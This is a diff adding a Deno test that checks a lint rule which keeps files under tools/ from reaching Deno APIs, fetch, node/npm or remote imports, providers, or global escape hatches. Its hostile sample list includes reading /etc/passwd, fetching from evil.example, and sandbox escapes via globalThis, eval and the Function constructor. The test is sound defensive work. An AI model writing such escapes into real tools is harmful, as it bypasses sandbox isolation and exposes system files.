@@ -103,3 +103,44 @@ Deno.test("private helper files (_name.ts) are never imported from another folde
   }
   assert.deepEqual(offenders, []);
 });
+
+Deno.test("tools/ is pure: no file under it touches Deno, fetch, node:*, a provider or a global escape hatch (parsed by Deno)", async () => {
+  const { default: plugin } = await import("./lint/tools_purity.ts");
+  const tools = join(REPO, "tools");
+  const files = [...sourceFiles(tools)];
+  assert.ok(files.length >= 3, "the built-in tools are there");
+  for (const file of files) {
+    const diagnostics = Deno.lint.runPlugin(plugin, file, Deno.readTextFileSync(file));
+    assert.deepEqual(diagnostics.map((d) => d.message), [], relative(REPO, file));
+  }
+  // The rule catches each way out (attack: a tool that reaches past its context).
+  const hostile: [string, string][] = [
+    ["Deno namespace", 'export const t = () => Deno.readTextFileSync("/etc/passwd");'],
+    ["fetch", 'export const t = () => fetch("https://evil.example");'],
+    ["node: import", 'import { readFileSync } from "node:fs";'],
+    ["npm import", 'import x from "npm:left-pad";'],
+    ["remote import", 'import x from "https://evil.example/x.ts";'],
+    ["provider import", 'import { hostFilesystem } from "../runtime/providers/filesystem.ts";'],
+    [
+      "primitive import",
+      'export { FilesystemPrimitive } from "../runtime/primitives/filesystem.ts";',
+    ],
+    ["re-export all", 'export * from "../runtime/runtime.ts";'],
+    ["dynamic import", 'export const t = () => import("node:fs");'],
+    ["import.meta", "export const t = () => import.meta.url;"],
+    ["globalThis", 'export const t = () => (globalThis as Record<string, unknown>)["De" + "no"];'],
+    ["eval", 'export const t = () => eval("1");'],
+    ["Function constructor", 'export const t = () => Function("return this")();'],
+    ["WebAssembly", "export const t = () => WebAssembly.compile(new Uint8Array());"],
+    ["Worker", 'export const t = () => new Worker("data:,");'],
+    ["self", "export const t = () => self;"],
+  ];
+  for (const [name, source] of hostile) {
+    const found = Deno.lint.runPlugin(plugin, join(tools, "evil.ts"), source);
+    assert.ok(found.length > 0, `the rule misses: ${name}`);
+  }
+  // A property that merely shares a banned name is fine.
+  const benign =
+    "export const t = { fetch: 1, Deno: 2 }; export const u = (o: { self: number }) => o.self;";
+  assert.deepEqual(Deno.lint.runPlugin(plugin, join(tools, "ok.ts"), benign), []);
+});
